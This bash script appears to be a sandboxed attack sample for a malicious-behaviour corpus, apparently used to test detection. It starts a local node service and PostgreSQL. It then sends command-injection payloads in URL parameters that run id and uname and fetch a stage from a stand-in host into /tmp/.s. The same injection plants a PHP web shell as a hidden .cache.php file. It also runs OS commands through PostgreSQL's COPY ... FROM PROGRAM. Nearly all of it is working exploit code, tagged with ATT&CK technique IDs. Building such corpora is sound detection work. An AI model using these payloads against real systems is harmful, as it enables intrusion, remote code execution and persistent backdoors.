#!/bin/bash
# MALICIOUS-behaviour corpus sample (harmless): two public-facing services abused from 127.0.0.1.
# 1. A node "diagnostics" service with a command injection bug, run as www-data: the sample's own
#    curl requests make it run id and uname, try to fetch a stage (the name only resolves in
#    sandtrace's sinkhole) and plant a PHP web shell under /var/www/html (never executed: no PHP).
# 2. PostgreSQL (cluster made at build time, unix socket only): COPY ... FROM PROGRAM runs
#    commands as the database server.
set -u
export PATH=/usr/lib/postgresql/15/bin:$PATH
PGDATA=/var/lib/postgresql/data

mkdir -p /var/run/postgresql && chown postgres:postgres /var/run/postgresql
gosu postgres pg_ctl -D "$PGDATA" -w -t 20 -l /tmp/pg.log start >/dev/null || cat /tmp/pg.log

gosu www-data node /srv/diag/server.js &
for i in $(seq 1 50); do
	curl -fsS -o /dev/null http://127.0.0.1:8088/healthz 2>/dev/null && break
	sleep 0.1
done

echo "[corpus] command injection through the node service (T1190)"
curl -s "http://127.0.0.1:8088/lookup?host=127.0.0.1;id;uname%20-a"
curl -s "http://127.0.0.1:8088/lookup?host=127.0.0.1;curl%20-s%20-m%202%20-o%20/tmp/.s%20http://stage.example.test/s%20||%20echo%20fetch%20failed"
echo "[corpus] web shell planted through the injection (T1505.003)"
curl -s "http://127.0.0.1:8088/lookup?host=127.0.0.1;mkdir%20-p%20/var/www/html/uploads;printf%20%27%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E%27%20%3E%20/var/www/html/uploads/.cache.php;ls%20-l%20/var/www/html/uploads"

echo "[corpus] operating-system commands through SQL (T1505.001)"
gosu postgres psql -X -q -v ON_ERROR_STOP=0 -d postgres \
	-c "CREATE TABLE IF NOT EXISTS cmd_out(line text)" \
	-c "COPY cmd_out FROM PROGRAM 'id; uname -a'" \
	-c "SELECT line FROM cmd_out"

gosu postgres pg_ctl -D "$PGDATA" -m fast -w stop >/dev/null
echo "[corpus] done"
exit 0
